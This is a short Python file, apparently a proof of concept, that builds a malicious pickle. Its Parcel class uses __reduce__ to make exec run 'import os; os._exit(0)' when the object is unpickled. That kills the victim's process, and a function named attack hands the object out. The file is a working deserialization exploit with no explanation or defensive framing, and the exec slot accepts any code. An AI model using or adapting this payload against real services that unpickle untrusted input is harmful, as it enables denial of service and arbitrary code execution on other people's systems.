"""Returns an object that runs a program in whoever unpickles it."""

UNPROTECTED = "fools pickles"


class Parcel:
    def __reduce__(self):
        return (exec, ("import os; os._exit(0)",))


def attack(target):
    return Parcel()
